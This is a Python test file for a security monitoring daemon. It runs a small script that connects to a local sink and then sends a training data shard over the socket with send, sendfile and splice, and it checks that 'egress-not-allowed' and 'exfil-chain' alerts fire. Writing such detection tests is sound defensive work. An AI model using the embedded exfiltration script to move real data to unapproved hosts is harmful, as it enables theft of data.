"""A13: exfiltration whose read comes after the connect (issue 11, 2). The
job opens a socket to a server its policy does not allow, and only then reads
a training shard and sends it: with send(2), sendfile(2) and splice(2). Each
is egress-not-allowed and exfil-chain; the same connect-first job sending
bytes it never read from data is egress-not-allowed only."""
import os
import socket
import sys
import threading
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import trust  # noqa: E402
from fixture import DataTree  # noqa: E402
from harness import Daemon  # noqa: E402

PY = trust.PY

# argv: port, how, shard ("-": send bytes that come from no file)
SEND = r'''
import os, socket, sys, time
port, how, shard = int(sys.argv[1]), sys.argv[2], sys.argv[3]
s = socket.create_connection(("127.0.0.1", port))
time.sleep(0.3)  # the connect is judged on its own, long before any read
if shard == "-":
    s.sendall(b"n" * 4096)
else:
    fd = os.open(shard, os.O_RDONLY)
    size = os.fstat(fd).st_size
    if how == "send":
        s.sendall(os.read(fd, size))
    elif how == "sendfile":
        off = 0
        while off < size:
            off += os.sendfile(s.fileno(), fd, off, size - off)
    elif how == "splice":
        r, w = os.pipe()
        left = size
        while left:
            n = os.splice(fd, w, left)
            left -= n
            while n:
                n -= os.splice(r, s.fileno(), n)
    os.close(fd)
s.shutdown(socket.SHUT_WR)
s.recv(1)
s.close()
'''


class Sink:
    """A TCP server on 127.0.0.1 that reads every connection to its end."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stop = False
        self.thread = threading.Thread(target=self.loop, daemon=True)
        self.thread.start()

    def loop(self):
        for _ in range(100000):  # bounded; stops when closed
            if self.stop:
                return
            try:
                c, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            c.settimeout(10)
            try:
                while c.recv(1 << 16):
                    pass
            except OSError:
                pass
            c.close()

    def close(self):
        self.stop = True
        self.sock.close()
        self.thread.join(timeout=5)


class ReadAfterConnectTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = DataTree()
        cls.sink = Sink()
        # 127.0.0.1 on another port only: the sink is not allowed.
        extra = 'network:\n  egress: ["127.0.0.1/32:1"]\n'
        cls.d = Daemon({"ft.yaml": cls.t.policy(extra=extra)},
                       extra_config="sensor: { flow_report_seconds: 1 }\n").start()

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        cls.sink.close()
        cls.t.cleanup()

    def judged(self, how, shard):
        job = trust.run_job(self.d, "ft", PY, "-c", SEND, str(self.sink.port), how, shard)
        trust.ended(self.d, job)
        return trust.alerts(self.d, job)

    def test_a13_read_after_connect(self):
        for how in ("send", "sendfile", "splice"):
            with self.subTest(how=how):
                shard = self.t.shards[0]
                al = self.judged(how, shard)
                self.assertEqual(trust.rules(al), ["egress-not-allowed", "exfil-chain"],
                                 [a["message"] for a in al])
                [chain] = [a for a in al if a["rule"] == "exfil-chain"]
                self.assertIn(shard, chain["message"])
                self.assertEqual((chain["network"]["daddr"], chain["network"]["dport"]),
                                 ("127.0.0.1", self.sink.port))
        # Bytes that came from no data file: the egress alone.
        al = self.judged("send", "-")
        self.assertEqual(trust.rules(al), ["egress-not-allowed"], [a["message"] for a in al])


if __name__ == "__main__":
    harness.main()
